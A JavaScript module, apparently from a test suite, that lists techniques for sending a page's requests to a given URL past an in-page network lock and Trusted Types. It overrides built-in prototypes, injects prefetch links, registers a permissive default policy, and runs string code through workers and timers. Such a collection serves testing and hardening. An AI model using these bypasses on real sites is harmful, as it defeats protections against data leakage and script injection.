// Ways round the lock and round Trusted Types, by a script that knows both: it lies about what the lock asks for, and makes links in
// ways that name none. What connects or looks up ahead of time asks nothing of the policy: only the lock (and Connection-Allowlist) can
// stop it.

/** @type {import('./channels.mjs').Channel[]} */
export const lockChannels = [
  // The lock runs before any other script, but is asked later: each of these puts its own in the place of what the answer is made with.
  { name: 'link, by a set that has nothing', open: true, run: url => {
    const { has } = Set.prototype;
    Set.prototype.has = () => false;
    try { document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect dns-prefetch', href: url })); } finally { Set.prototype.has = has; }
  } },
  { name: 'link, by a call that keeps what it calls', open: false, run: url => {
    const { call } = Function.prototype;
    /** @type {any} */
    let made;
    Function.prototype.call = function (self, ...rest) {
      if (/^create/.test(this.name) && /native code/.test(String(this))) made ??= Reflect.apply(this, document, ['link']);
      return Reflect.apply(this, self, rest);
    };
    try { document.createElement('p'); } finally { Function.prototype.call = call; }
    document.head.append(Object.assign(made ?? document.createElement('link'), { rel: 'preconnect dns-prefetch', href: url }));
  } },
  { name: 'link, by letters that are never small', open: true, run: url => {
    const { toLowerCase } = String.prototype;
    String.prototype.toLowerCase = () => 'p';
    try { document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect dns-prefetch', href: url })); } finally { String.prototype.toLowerCase = toLowerCase; }
  } },
  { name: 'link, by an expression that finds a paragraph', open: true, run: url => {
    const replace = RegExp.prototype[Symbol.replace];
    RegExp.prototype[Symbol.replace] = () => 'p';
    try { document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect dns-prefetch', href: url })); } finally { RegExp.prototype[Symbol.replace] = replace; }
  } },
  { name: 'link, by a String that is none', open: true, run: url => {
    const { String: own } = globalThis;
    /** @type {any} */ (globalThis).String = () => ({ toLowerCase: () => 'p', toString: () => 'link' });
    try { document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect dns-prefetch', href: url })); } finally { globalThis.String = own; }
  } },
  { name: 'link, by a list that changes when it is read', open: false, run: url => {
    const own = Array.prototype[Symbol.iterator];
    /** @this {any[]} */
    Array.prototype[Symbol.iterator] = function () { if (this[0] === 'p') this[0] = 'link'; return Reflect.apply(own, this, []); };
    let made;
    try { made = document.createElement('p'); } finally { Array.prototype[Symbol.iterator] = own; }
    document.head.append(Object.assign(made, { rel: 'preconnect dns-prefetch', href: url }));
  } },
  { name: 'link by a name of three parts', open: false, run: url => {
    const made = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link:p');
    document.head.append(Object.assign(made, { rel: 'preconnect dns-prefetch', href: url }));
  } },
  { name: 'link by its constructor', open: false, run: url => {
    document.head.append(Object.assign(Reflect.construct(HTMLElement, [], HTMLLinkElement), { rel: 'preconnect dns-prefetch', href: url }));
  } },
  { name: 'link by a registry of its own', api: 'CustomElementRegistry', open: false, run: url => {
    const registry = new CustomElementRegistry();
    registry.define('le-ak', class extends HTMLLinkElement {}, { extends: 'link' });
    const made = document.createElement('link', /** @type {any} */ ({ is: 'le-ak', customElementRegistry: registry }));
    document.head.append(Object.assign(made, { rel: 'preconnect dns-prefetch', href: url }));
  } },
  { name: 'link by parseHTMLUnsafe', api: 'Document.parseHTMLUnsafe', open: true, run: url => {
    const made = /** @type {any} */ (Document).parseHTMLUnsafe(`<link rel="preconnect dns-prefetch" href="${url}">`).querySelector('link');
    document.head.append(document.importNode(made, true));
  } },
  { name: 'link by parseHTML', api: 'Document.parseHTML', open: false, run: url => {
    const made = /** @type {any} */ (Document).parseHTML(`<link rel="preconnect dns-prefetch" href="${url}">`, { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } }).querySelector('link');
    document.head.append(document.importNode(made, true));
  } },
  { name: 'link by a template', open: true, run: url => {
    const template = document.createElement('template');
    template.innerHTML = `<link rel="preconnect dns-prefetch" href="${url}">`;
    document.head.append(document.importNode(template.content, true));
  } },
  { name: 'link by outerHTML', open: true, run: url => { document.body.appendChild(document.createElement('p')).outerHTML = `<link rel="preconnect dns-prefetch" href="${url}">`; } },
  { name: 'link in a shadow root', open: true, run: url => { document.body.appendChild(document.createElement('p')).attachShadow({ mode: 'closed' }).innerHTML = `<link rel="preconnect dns-prefetch" href="${url}">`; } },
  { name: 'link by XML', open: true, run: url => {
    const made = new DOMParser().parseFromString(`<link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect dns-prefetch" href="${url}"/>`, 'application/xhtml+xml').documentElement;
    document.head.append(document.importNode(made, true));
  } },
  { name: 'link that an editor makes', open: false, leaves: true, run: url => {
    const box = document.body.appendChild(document.createElement('p'));
    box.contentEditable = 'true';
    box.textContent = 'here';
    getSelection()?.selectAllChildren(box);
    document.execCommand('createLink', false, url);
    /** @type {HTMLElement} */ (box.querySelector('a')).click();
  } },
  { name: 'link to a new tab that an editor makes', open: false, leaves: true, run: url => {
    const box = document.body.appendChild(document.createElement('p'));
    box.contentEditable = 'true';
    box.textContent = 'here';
    getSelection()?.selectAllChildren(box);
    document.execCommand('createLink', false, url);
    const link = /** @type {HTMLAnchorElement} */ (box.querySelector('a'));
    link.target = '_blank';
    link.click();
  } },
  { name: 'image that an editor puts in', open: false, run: url => {
    const box = document.body.appendChild(document.createElement('p'));
    box.contentEditable = 'true';
    box.focus();
    document.execCommand('insertImage', false, url);
  } },
  { name: 'link of MathML', open: false, leaves: true, run: url => {
    const space = 'http://www.w3.org/1998/Math/MathML', math = document.createElementNS(space, 'math'), link = document.createElementNS(space, 'mi');
    link.setAttribute('href', url);
    math.append(link);
    document.body.append(math);
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  } },
  { name: 'document.open of three', open: false, leaves: true, run: url => { /** @type {any} */ (document).open(url, '_blank', 'noopener'); } },
  { name: 'style sheet of an instruction', open: false, run: url => {
    document.insertBefore(document.createProcessingInstruction('xml-stylesheet', `href="${url}" type="text/css"`), document.documentElement);
  } },
  { name: 'frame without credentials', open: true, run: url => { document.body.append(Object.assign(document.createElement('iframe'), { credentialless: true, src: url })); } },
  { name: 'script of speculations, by a copy', open: false, run: url => {
    const script = /** @type {HTMLScriptElement} */ ((document.currentScript ?? document.createElement('script')).cloneNode());
    Object.assign(script, { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ urls: [url] }] }) });
    document.head.append(script);
  } },
  // Trusted Types, once more.
  { name: 'a second policy of that name', api: 'trustedTypes', open: false, run: url => {
    const policy = /** @type {any} */ (globalThis).trustedTypes.createPolicy('seal', { createHTML: (/** @type {string} */ text) => text });
    document.body.innerHTML = policy.createHTML(`<link rel="preconnect dns-prefetch" href="${url}">`);
  } },
  { name: 'a policy for all that have none', api: 'trustedTypes', open: false, run: url => {
    /** @type {any} */ (globalThis).trustedTypes.createPolicy('default', { createHTML: (/** @type {string} */ text) => text });
    document.body.innerHTML = `<link rel="preconnect dns-prefetch" href="${url}">`;
  } },
  { name: 'worker of data', open: true, run: url => new Worker(`data:text/javascript,fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`) },
  { name: 'timer of text', open: true, run: url => { setTimeout(/** @type {any} */ (`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`), 0); } },
];
